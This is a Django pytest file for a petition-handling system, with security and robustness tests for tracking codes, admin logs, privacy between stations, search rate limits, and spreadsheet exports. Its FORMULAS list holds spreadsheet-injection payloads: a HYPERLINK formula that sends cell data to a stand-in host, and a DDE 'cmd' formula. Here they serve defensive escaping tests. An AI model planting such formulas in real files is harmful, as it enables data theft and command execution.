"""Round ten: faults found by trying the system as an attacker, a bureau's month, an archivist and a
herder's phone, each fixed as a kind; every example here is one case of its kind."""

from __future__ import annotations

import io
import json

import pytest
from django.test import Client

from daiban.audit.models import Action, AuditEntry
from daiban.notifications.models import Notification, SweepRun
from daiban.org.models import Station, User
from daiban.petitions.models import Petition
from daiban.workdays.models import CalendarDay
from tests.factories import COMPLAINT, id_number, petition_body

# --- a query code is a query code, never a petition number -----------------------------------------

# Codes of letters then digits read as a petition number (ABCD234567 → ABCD-2345-000067): about one
# petitioner in 2,500 could never track the case. Each is a code the alphabet can draw.
CODES_OF_NUMBER_SHAPE = ["ABCD234567", "A234567892", "WS23456789", "ABCDEFGH22"]


def _submitted(api) -> dict:
    body = {"petitioner": {"name": "刘八", "id_number": id_number(serial=901), "phone": "13812345678"},
            "content": COMPLAINT}
    return api().client.post("/api/v1/public/petitions", json.dumps(body), content_type="application/json",
                             REMOTE_ADDR="10.4.4.4").json()


@pytest.mark.parametrize("code", CODES_OF_NUMBER_SHAPE)
def test_every_query_code_the_alphabet_can_draw_tracks_its_petition(api, org, clock, code):
    created = _submitted(api)
    Petition.objects.filter(number=created["number"]).update(query_code=code)
    url = f"/api/v1/public/petitions/{created['number']}"
    assert Client(REMOTE_ADDR="10.5.5.5").get(url, {"code": code}).status_code == 200
    portal = Client(REMOTE_ADDR="10.6.6.6")
    page = portal.post("/track/", {"number": created["number"], "code": code}, follow=True)
    assert page.status_code == 200 and created["number"] in page.content.decode()


@pytest.mark.parametrize("typed", ["abcd 2345 67", "ABCD-2345-67", "ＡＢＣＤ２３４５６７", " abcd234567\t", "ABCD—234567"])
def test_a_query_code_is_found_as_people_type_it(api, org, clock, typed):
    created = _submitted(api)
    Petition.objects.filter(number=created["number"]).update(query_code="ABCD234567")
    url = f"/api/v1/public/petitions/{created['number']}"
    assert Client(REMOTE_ADDR="10.7.7.7").get(url, {"code": typed}).status_code == 200
    page = Client(REMOTE_ADDR="10.8.8.8").post("/track/", {"number": created["number"], "code": typed}, follow=True)
    assert page.status_code == 200 and created["number"] in page.content.decode()
    link = Client(REMOTE_ADDR="10.9.8.8").get(f"/track/{created['number']}/", {"code": typed}, follow=True)
    assert link.status_code == 200 and created["number"] in link.content.decode()


def test_a_wrong_code_of_number_shape_is_still_wrong(api, org, clock):
    created = _submitted(api)
    Petition.objects.filter(number=created["number"]).update(query_code="ABCD234567")
    url = f"/api/v1/public/petitions/{created['number']}"
    # The number-shaped reading of the right code is not the code.
    assert Client(REMOTE_ADDR="10.3.3.3").get(url, {"code": "ABCD-2345-000067"}).status_code == 404


# --- the admin keeps the record: logs read-only, edits through the services --------------------------

def _admin_client():
    admin = Client()
    admin.force_login(User.objects.get(username="admin"))
    return admin


def test_the_sms_log_cannot_be_edited_or_deleted_in_the_admin(api, accepted, clock):
    petition = accepted()
    sms = Notification.objects.filter(petition_id=petition["id"], channel="sms").first()
    assert sms is not None
    admin = _admin_client()
    change = f"/admin/notifications/notification/{sms.pk}/change/"
    before = (sms.body, sms.state)
    admin.post(change, {"body": "请携带500元手续费到局里办理", "state": "queued", "attempts": 0})
    sms.refresh_from_db()
    assert (sms.body, sms.state) == before
    admin.post(f"/admin/notifications/notification/{sms.pk}/delete/", {"post": "yes"})
    assert Notification.objects.filter(pk=sms.pk).exists()
    assert admin.get(change).status_code == 200  # still readable
    assert b'name="body"' not in admin.get(change).content


def test_retrying_a_failed_sms_is_the_one_admin_action_and_it_is_audited(api, accepted, clock):
    petition = accepted()
    sms = Notification.objects.filter(petition_id=petition["id"], channel="sms").first()
    Notification.objects.filter(pk=sms.pk).update(state="gave_up")
    response = _admin_client().post("/admin/notifications/notification/",
                                    {"action": "retry_now", "_selected_action": [sms.pk]})
    assert response.status_code == 302
    sms.refresh_from_db()
    assert sms.state == "failed"
    row = AuditEntry.objects.filter(action=Action.SETTINGS_CHANGE, target_type="notification").get()
    assert row.actor_username == "admin" and row.detail["ids"] == [sms.pk]


def test_the_sweeps_claim_rows_cannot_be_added_or_removed_in_the_admin(org, clock):
    admin = _admin_client()
    admin.post("/admin/notifications/sweeprun/add/", {"day": "2026-12-01", "urged": 0, "reminded": 0})
    assert not SweepRun.objects.exists()
    assert admin.get("/admin/notifications/sweeprun/add/").status_code == 403


def test_a_calendar_day_is_changed_not_deleted_and_confirming_is_audited(org, clock):
    admin = _admin_client()
    day = CalendarDay.objects.get(date="2027-01-01")
    assert admin.post(f"/admin/workdays/calendarday/{day.pk}/delete/", {"post": "yes"}).status_code == 403
    assert CalendarDay.objects.filter(date="2027-01-01", is_workday=False).exists()
    admin.post("/admin/workdays/calendarday/", {"action": "delete_selected", "_selected_action": [day.pk], "post": "yes"})
    assert CalendarDay.objects.filter(date="2027-01-01").exists()
    unconfirmed = list(CalendarDay.objects.filter(date__year=2027, confirmed=False).values_list("pk", flat=True)[:3])
    assert unconfirmed
    admin.post("/admin/workdays/calendarday/", {"action": "mark_confirmed", "_selected_action": unconfirmed})
    assert not CalendarDay.objects.filter(pk__in=unconfirmed, confirmed=False).exists()
    assert AuditEntry.objects.filter(action=Action.CALENDAR_CHANGE, actor_username="admin",
                                     detail__confirm=True).exists()


def test_admin_is_for_the_administrator_role_not_for_is_staff(org, clock):
    agent = User.objects.get(username="agent1")
    agent.is_staff = True
    agent.save()
    client = Client()
    client.force_login(agent)
    assert client.get("/admin/").status_code == 302  # to the admin's login
    assert client.get("/admin/org/station/").status_code == 302
    assert _admin_client().get("/admin/").status_code == 200


@pytest.mark.parametrize(("station", "parent", "field"), [
    ("center", "galutu", "parent"),          # the center under a township: a loop
    ("galutu", "village-sarlig", "parent"),  # a station under its own village point: a loop, and the wrong level
    ("galutu", "galutu", "parent"),          # itself
    ("bureau", None, "parent"),              # a second root beside the center
])
def test_the_station_tree_stays_a_tree_of_three_levels(org, station, parent, field):
    from django.core.exceptions import ValidationError

    row = Station.objects.get(code=station)
    row.parent = Station.objects.get(code=parent) if parent else None
    with pytest.raises(ValidationError) as raised:
        row.full_clean()
    assert field in raised.value.message_dict


def test_the_admin_refuses_a_loop_in_the_station_tree(org, clock):
    center = Station.objects.get(code="center")
    galutu = Station.objects.get(code="galutu")
    response = _admin_client().post(f"/admin/org/station/{center.pk}/change/", {
        "code": "center", "name": center.name, "level": "center", "parent": galutu.pk, "address": "", "phone": ""})
    assert response.status_code == 200 and "旗信访代办服务中心没有上级" in response.content.decode()
    center.refresh_from_db()
    assert center.parent_id is None


def test_a_station_with_a_duty_roster_is_not_deleted_with_it(org, clock):
    from django.db.models import ProtectedError

    from daiban.staff.models import DutyDay

    point = Station.objects.get(code="village-bayan")
    DutyDay.objects.create(station=point, date="2026-12-01", leader=User.objects.get(username="duty"))
    with pytest.raises(ProtectedError):
        point.delete()


# --- another station's petition is never named ----------------------------------------------------

@pytest.fixture
def elsewhere(api, new_petition, org, clock):
    """agent1's station has a petition of 王五; agent12 (嘎鲁图) registers the same matter of the same person."""
    person = {"name": "王五", "id_number": id_number(serial=702), "phone": "13912340001"}
    first = new_petition(petitioner=person, content=COMPLAINT)
    second = api("agent12").post("/petitions", petition_body(petitioner=person, content=COMPLAINT))
    assert second.status_code == 201, second.data
    return first, second.data


def test_a_repeat_of_another_stations_petition_does_not_name_it(api, elsewhere):
    first, second = elsewhere
    assert api("agent12").get(f"/petitions/{first['id']}").status_code == 404
    assert second["related"] == [] and second["related_elsewhere"] == 1
    detail = api("agent12").get(f"/petitions/{second['id']}").data
    assert detail["related"] == [] and detail["related_elsewhere"] == 1
    page = _staff("agent12").get(f"/staff/petitions/{second['id']}/").content.decode()
    assert first["number"] not in page and "另有 1 件同一事项由其他代办机构办理" in page
    # The center sees both, and names the earlier one.
    assert [r["number"] for r in api("center").get(f"/petitions/{second['id']}").data["related"]] == [first["number"]]


def test_an_exclusion_by_another_stations_petition_counts_without_naming_it(api, elsewhere):
    first, second = elsewhere
    eligibility = api("agent12").get(f"/petitions/{second['id']}/eligibility").data
    assert eligibility["eligible"] is False
    reason = eligibility["reasons"][0]
    assert reason["petition"] is None and reason["petition_number"] is None
    assert first["number"] not in reason["message"] and "其他代办机构" in reason["message"]
    check = api("agent12").post("/petitions/check", {"petitioner": {"id_number": id_number(serial=702)},
                                                     "content": COMPLAINT}).data
    assert check["reasons"] and all(r["petition"] != first["id"] and first["number"] not in r["message"]
                                    for r in check["reasons"])
    refused = api("agent12").act(second["id"], "screen", {"outcome": "agency", "agent_id": api("agent12").get(
        "/agents").data[0]["id"]})
    assert refused.status_code == 409 and first["number"] not in json.dumps(refused.data, ensure_ascii=False)


def test_the_repeats_statistics_do_not_name_another_stations_petition(api, elsewhere):
    first, second = elsewhere
    rows = api("agent12").get("/stats/repeats").data
    row = next(r for r in rows if r["id"] == second["id"])
    assert row["earlier"] is None and row["earlier_elsewhere"] is True
    assert first["number"] not in json.dumps(rows, ensure_ascii=False)
    page = _staff("agent12").get("/staff/stats/").content.decode()
    assert first["number"] not in page
    center = next(r for r in api("center").get("/stats/repeats").data if r["id"] == second["id"])
    assert center["earlier"]["number"] == first["number"]


def _staff(username: str) -> Client:
    client = Client()
    client.force_login(User.objects.get(username=username))
    return client


# --- search by phone finds what the petition was registered with; identity search confirms nothing --

def test_a_phone_finds_the_petitions_registered_with_it_and_the_persons_current_one(api, new_petition, org, clock):
    person = {"name": "张三", "id_number": id_number(serial=703), "phone": "13800138000"}
    first = new_petition(petitioner=person)
    # The same person comes again with a new mobile, then a fixed line: each petition keeps its own.
    second = new_petition(petitioner={**person, "phone": "13912345670"}, content="草场被占，请求补偿。")
    third = new_petition(petitioner={**person, "phone": "0477-7600001"}, content="宅基地确权的问题。")
    center = api("center")

    def found(q: str) -> set[int]:
        return {p["id"] for p in center.get("/petitions", q=q).data["items"]}

    assert second["id"] in found("13912345670")
    assert third["id"] in found("0477-7600001") and third["id"] in found("(0477)7600001")
    assert first["id"] in found("138 0013 8000")
    # A correction of the person's phone: the number printed on the earlier petitions still finds them.
    corrected = center.post(f"/petitions/{second['id']}/petitioner/correction", {"phone": "13912340000", "reason": "登记错误"})
    assert corrected.status_code == 200, corrected.data
    assert first["id"] in found("13800138000")
    assert second["id"] in found("13912340000")


def test_searches_by_id_number_or_phone_are_counted_per_account(api, accepted, org, clock, settings):
    """agent2 sees the petition with the ID number and phone masked; each search by a full number
    answers whether it is the petitioner's, so guessing the masked digits is stopped by an hourly
    allowance per account (the intake check has its own). Words and numbers are not counted."""
    settings.DAIBAN_IDENTITY_SEARCHES_PER_HOUR = 3
    petition = accepted(petitioner={"name": "赵六", "id_number": id_number(serial=704), "phone": "13900000019"})
    agent2 = api("agent2")
    assert "*" in agent2.get(f"/petitions/{petition['id']}").data["petitioner"]["phone"]
    guesses = [f"139000000{n:02d}" for n in range(10, 16)]
    answers = [agent2.get("/petitions", q=guess).status_code for guess in guesses]
    assert answers == [200, 200, 200, 429, 429, 429]
    refused = agent2.get("/petitions", q=id_number(serial=704))
    assert refused.status_code == 429 and "过于频繁" in refused.data["error"]["message"]
    assert agent2.get("/petitions", q="赵六").status_code == 200  # a name is not an identity search
    page = _staff("agent2").get("/staff/petitions/", {"q": "13900000019"})
    assert page.status_code == 200 and "过于频繁" in page.content.decode()
    # Another account has its own allowance.
    assert api("agent1").get("/petitions", q="13900000019").data["count"] == 1


# --- invisible characters and the names of the banner ---------------------------------------------

@pytest.mark.parametrize("mark", ["\u2060", "\u00ad", "\u200e", "\u200f", "\u061c", "\u2063", "\u206a"])
def test_an_invisible_character_is_removed_at_the_boundary(api, new_petition, org, clock, mark):
    petition = new_petition(petitioner={"name": f"苏{mark}和巴{mark}特尔", "id_number": id_number(serial=705)})
    assert api("agent1").get(f"/petitions/{petition['id']}").data["petitioner"]["name"] == "苏和巴特尔"
    assert api("agent1").get("/petitions", q="苏和巴特尔").data["count"] == 1


@pytest.mark.parametrize("mark", ["\u200c", "\u200d", "\u180e", "\u180b"])
def test_a_character_that_shapes_script_is_kept_and_search_looks_through_it(api, new_petition, org, clock, mark):
    petition = new_petition(petitioner={"name": f"苏{mark}和巴特尔", "id_number": id_number(serial=706)})
    assert mark in api("agent1").get(f"/petitions/{petition['id']}").data["petitioner"]["name"]
    assert api("agent1").get("/petitions", q="苏和巴特尔").data["count"] == 1


@pytest.mark.parametrize(("registered", "typed"), [
    ("阿拉坦·其其格", "阿拉坦其其格"), ("阿拉坦・其其格", "阿拉坦·其其格"), ("阿拉坦其其格", "阿拉坦•其其格"),
    ("乌力吉·巴雅尔", "吉巴雅"),
])
def test_a_dotted_name_is_found_with_or_without_its_dot(api, new_petition, org, clock, registered, typed):
    petition = new_petition(petitioner={"name": registered, "id_number": id_number(serial=707)})
    found = [p["id"] for p in api("agent1").get("/petitions", q=typed).data["items"]]
    assert petition["id"] in found
    page = _staff("agent1").get("/staff/petitions/", {"q": typed}).content.decode()
    assert petition["number"] in page


# --- spreadsheets: text that looks like a formula keeps its quote prefix ---------------------------

FORMULAS = ["=HYPERLINK(\"http://e.vil/?\"&A1,\"点此\")", "@SUM(1+1)*cmd|' /C calc'!A0", "  =1+1", "＝1+1", "+86-1",
            "\u3000-2+3"]


def test_every_spreadsheet_keeps_formula_like_text_as_text_through_editing_and_csv(api, new_petition, org, clock):
    from openpyxl import load_workbook

    from daiban.documents.safe import csv_text
    from daiban.lib.xlsx import formula_like

    for text in FORMULAS:
        assert formula_like(text) and csv_text(text).startswith("'")
    assert not formula_like("草场被占") and not formula_like("2026-12-01")
    petition = new_petition(content=FORMULAS[1], petitioner={"name": "张三", "id_number": id_number(serial=708),
                                                             "address": FORMULAS[0]})
    center = api("center")
    ledger = load_workbook(io.BytesIO(_body(center.client.get("/api/v1/ledger.xlsx", **center.headers))))
    cells = [c for row in ledger.active.iter_rows() for c in row if isinstance(c.value, str) and formula_like(c.value)]
    assert {c.value for c in cells} >= {FORMULAS[0], FORMULAS[1]}
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    # The audit export (a username typed by an attacker at the login) and the monthly report.
    _staff_login_as(FORMULAS[0])
    audit = load_workbook(io.BytesIO(_body(_staff("center").get("/staff/audit.xlsx"))))
    cells = [c for row in audit.active.iter_rows() for c in row if isinstance(c.value, str) and formula_like(c.value)]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
    assert petition["number"]


def _body(response) -> bytes:
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def _staff_login_as(username: str) -> None:
    Client().post("/staff/login/", {"username": username, "password": "x"})


@pytest.mark.parametrize("name", ["CON.png", "aux.png", "NUL.png", "com1.png", "LPT9.png"])
def test_a_windows_device_name_is_never_kept_for_a_file(api, accepted, org, clock, name):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from tests.factories import png_bytes

    petition = accepted()
    agent = api("agent1")
    r = agent.client.post(f"/api/v1/petitions/{petition['id']}/attachments",
                          {"file": SimpleUploadedFile(name, png_bytes()), "kind": "photo"}, **agent.headers)
    assert r.status_code == 201, r.content
    assert r.json()["name"] == f"_{name}"


# --- the OpenAPI document states what runs --------------------------------------------------------

def test_the_openapi_document_states_the_bounds_and_requirements_the_runtime_enforces(api, org):
    doc = api().client.get("/api/v1/openapi.json").json()
    schemas = doc["components"]["schemas"]
    review = doc["paths"]["/api/v1/public/petitions/{number}/review"]["post"]
    assert review["requestBody"]["required"] is True
    assert schemas["ReviewIn"]["required"] == ["reason"] and schemas["ReviewIn"]["properties"]["reason"]["minLength"] == 1
    add = next(p for p in doc["paths"]["/api/v1/workdays"]["get"]["parameters"] if p["name"] == "add")
    assert (add["schema"]["minimum"], add["schema"]["maximum"]) == (1, 1000)
    for name, field in (("RequestExtensionIn", "workdays"), ("ExtendIn", "days")):
        prop = next(v for k, v in schemas.items() if k.startswith(name))["properties"][field]
        assert (prop["minimum"], prop["maximum"]) == (1, 30)
    # …and the runtime answers them with the field named.
    bad = api("agent1").get("/workdays", start="2026-12-01", add=0)
    assert bad.status_code == 400 and "add" in bad.data["error"]["fields"]
